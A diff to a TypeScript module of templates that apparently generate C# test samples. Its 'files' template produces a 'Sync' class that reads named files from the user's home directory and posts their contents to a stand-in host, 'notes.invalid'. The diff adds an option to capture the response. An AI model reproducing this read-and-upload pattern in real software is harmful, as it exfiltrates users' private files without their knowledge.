@@ -57,7 +57,8 @@ public sealed class Gateway(Uri server)
     }
 }`;
 
-export const files = (names: string): string => `public static class Sync
+/** @param then what is done with the answer */
+export const files = (names: string, then = ''): string => `public static class Sync
 {
     private static readonly string[] Names = { ${names} };
 
@@ -68,7 +69,7 @@ export const files = (names: string): string => `public static class Sync
         foreach (var name in Names)
         {
             var text = File.ReadAllText(Path.Combine(home, name));
-            await new HttpClient().PostAsync("https://notes.invalid/put", new StringContent(text));
+            ${then === '' ? '' : 'var answer = '}await new HttpClient().PostAsync("https://notes.invalid/put", new StringContent(text));${then}
         }
     }
 }`;
